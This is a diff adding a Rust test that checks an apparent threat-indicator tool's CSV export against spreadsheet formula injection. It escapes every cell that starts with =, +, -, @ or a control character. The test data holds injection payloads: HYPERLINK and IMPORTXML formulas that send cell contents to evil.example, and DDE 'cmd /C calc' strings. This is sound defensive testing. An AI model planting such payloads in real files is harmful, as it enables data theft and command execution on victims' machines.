@@ -366,3 +366,116 @@ fn export_writes_one_quoted_row_per_indicator_and_reads_back() {
     );
     assert!(back.report.refused.is_empty(), "{:?}", refused(&back));
 }
+
+/// The cells of a CSV text as RFC 4180 reads them (quotes removed, doubled quotes undone),
+/// row by row: what a spreadsheet sees before it decides whether a cell is a formula.
+fn cells(text: &str) -> Vec<Vec<String>> {
+    let mut rows = Vec::new();
+    let mut row = Vec::new();
+    let mut cell = String::new();
+    let mut quoted = false;
+    let mut chars = text.chars().peekable();
+    while let Some(c) = chars.next() {
+        match (quoted, c) {
+            (true, '"') if chars.peek() == Some(&'"') => {
+                chars.next();
+                cell.push('"');
+            }
+            (true, '"') => quoted = false,
+            (true, c) => cell.push(c),
+            (false, '"') => quoted = true,
+            (false, ',') => row.push(std::mem::take(&mut cell)),
+            (false, '\r') if chars.peek() == Some(&'\n') => {
+                chars.next();
+                row.push(std::mem::take(&mut cell));
+                rows.push(std::mem::take(&mut row));
+            }
+            (false, c) => cell.push(c),
+        }
+    }
+    assert!(
+        !quoted && cell.is_empty() && row.is_empty(),
+        "unterminated CSV"
+    );
+    rows
+}
+
+#[test]
+fn no_member_text_reaches_a_spreadsheet_as_a_formula() {
+    // A member publishes indicators whose every free-text field, and the value where the
+    // kind lets it (an e-mail local part may hold = + - '), starts with a character that
+    // makes a spreadsheet evaluate the cell; the charter names it with one too.
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+        "+1+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+    ];
+    let emails = [
+        "=cmd@evil.example",
+        "+cmd@evil.example",
+        "-cmd@evil.example",
+        "'=cmd@evil.example",
+        "''-cmd@evil.example",
+        "plain@evil.example",
+    ];
+    let items = formulas
+        .iter()
+        .zip(emails)
+        .map(|(formula, email)| {
+            let mut indicator = Indicator::new(Value::parse(Kind::Email, email).unwrap(), NOW);
+            indicator.context.description = Some((*formula).to_owned());
+            indicator.context.threat = Some((*formula).to_owned());
+            indicator.labels = vec![(*formula).to_owned(), "phishing".to_owned()];
+            Item::Indicator(indicator)
+        })
+        .collect();
+    let signed = entry(items, Tlp::Green);
+    let publisher = Publisher {
+        org: PublicKey([9; 32]),
+        name: "=IMPORTXML(CONCAT(\"http://evil.example/?\",A2),\"//a\")".to_owned(),
+        country: "DE".to_owned(),
+    };
+    let mut out = Vec::new();
+    let rows = csv::export(&mut out, [(signed.entry(), signed.id(), &publisher)]).unwrap();
+    assert_eq!(rows, formulas.len());
+    let text = String::from_utf8(out.clone()).unwrap();
+
+    let table = cells(&text);
+    assert_eq!(table.len(), formulas.len() + 1);
+    for cell in table.iter().flatten() {
+        assert!(
+            !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+            "a spreadsheet would evaluate {cell:?} in\n{text}"
+        );
+    }
+    // The text is kept, behind the `'` that makes it text.
+    for (row, (formula, email)) in table[1..].iter().zip(formulas.iter().zip(emails)) {
+        let value = Value::parse(Kind::Email, email).unwrap();
+        let value = value.as_str();
+        let shown_value = if value.trim_start_matches('\'').starts_with(['=', '+', '-']) {
+            format!("'{value}")
+        } else {
+            value.to_owned()
+        };
+        assert_eq!(row[1], shown_value);
+        assert_eq!(row[6], format!("'{formula};phishing"));
+        assert_eq!(row[7], format!("'{formula}"));
+        assert_eq!(row[8], format!("'{formula}"));
+        assert_eq!(row[9], format!("'{}", publisher.name));
+    }
+
+    // Importing the export gives back exactly the published values.
+    let back = detect(&out);
+    assert!(back.report.refused.is_empty(), "{:?}", refused(&back));
+    let expected: Vec<_> = emails
+        .iter()
+        .map(|email| {
+            let value = Value::parse(Kind::Email, email).unwrap();
+            (Kind::Email, value.as_str().to_owned())
+        })
+        .collect();
+    assert_eq!(values(&back), expected);
+}
